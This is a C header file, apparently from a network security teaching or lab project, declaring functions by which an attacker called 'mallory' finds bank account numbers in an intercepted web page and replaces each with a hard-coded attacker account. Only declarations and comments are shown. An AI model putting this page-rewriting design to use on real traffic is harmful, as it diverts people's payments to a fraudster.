/* The change that mallory makes to a page: the account number that the page asks to pay to becomes mallory's
 * own. */
#ifndef MALLORY_REWRITE_H
#define MALLORY_REWRITE_H

#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>

#include "glassnet/err.h"

#include "buf.h"

/* The account that the money shall go to. */
#define MALLORY_ACCOUNT "66-0666-0042-13"

#define ACCOUNT_TEXT_MAX 48

/* Finds an account number at or after `from`: groups of capitals and digits joined by single spaces or
 * hyphens, with at least six digits, within 200 octets after the word "account". Returns false if there is
 * none. */
bool account_find(const uint8_t *page, size_t len, size_t from, size_t *off, size_t *n);

struct rewrite_report {
	unsigned changed;              /* how many numbers were replaced */
	char before[ACCOUNT_TEXT_MAX]; /* the first of them, escaped and cut */
};

/* Replaces every account number in body[start..] by MALLORY_ACCOUNT. ERR_TOO_LONG when the page would outgrow
 * its buffer; it may then be changed in part. */
enum err rewrite_page(struct buf *page, size_t start, struct rewrite_report *out) MUST_USE;

#endif
